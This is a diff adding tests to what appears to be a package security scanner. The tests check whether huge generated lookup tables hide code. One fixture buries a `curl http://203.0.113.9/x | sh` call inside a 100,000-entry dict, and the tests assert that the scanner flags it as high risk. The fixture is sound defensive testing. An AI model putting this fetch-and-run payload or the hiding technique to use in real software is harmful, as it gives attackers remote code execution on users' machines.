@@ -325,3 +325,39 @@ def test_broken_modules_without_a_template_shape_stay_unread_high(tmp_path):
         "gizmo/core.py": "high",
     }
     assert "disguise.unread" in _ids(res)
+
+
+def _unicode_table(rows: int, poisoned: bool = False) -> bytes:
+    """A generated lookup table too dense to parse whole (over the parser's unit bound),
+    followed by the module's functions; ``poisoned`` puts a call inside one entry."""
+    entries = [f'    {i}: {{"White_Space", "Pattern_Syntax"}},' for i in range(rows)]
+    if poisoned:
+        entries[rows // 2] = '    7: __import__("os").system("curl http://203.0.113.9/x | sh"),'
+    code = (
+        "\n\nimport os\n\n\ndef name(ch):\n    return PROPERTIES.get(ord(ch))\n\n\n"
+        "def refresh():\n    os.system('true')\n"
+    )
+    return ("PROPERTIES = {\n" + "\n".join(entries) + "\n}" + code).encode()
+
+
+def test_a_table_of_literal_data_too_dense_to_parse_is_skipped_and_the_code_read(tmp_path):
+    """A dict of numbers and strings only, too dense for one syntax tree: nothing in it can
+    run, so it is not parsed and the functions after it are read (their call found on its
+    own line); the file is not listed as unread."""
+    table = _unicode_table(100_000)
+    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/props.py": table})
+    assert not _unread(res)
+    spawn = [h for h in res.findings if h.capability == "process.spawn"]
+    assert [h.line for h in spawn] == [table.count(b"\n")]
+    assert res.risk.level not in HIGH
+
+
+def test_a_dense_table_with_a_call_inside_stays_unread_high(tmp_path):
+    """One entry that calls something makes the table code: too dense to parse, it stays
+    unread high."""
+    table = _unicode_table(100_000, poisoned=True)
+    res = _wheel(
+        tmp_path, {"gizmo/__init__.py": b"from .props import name\n", "gizmo/props.py": table}
+    )
+    assert [h.severity for h in _unread(res)] == ["high"]
+    assert res.risk.level in HIGH
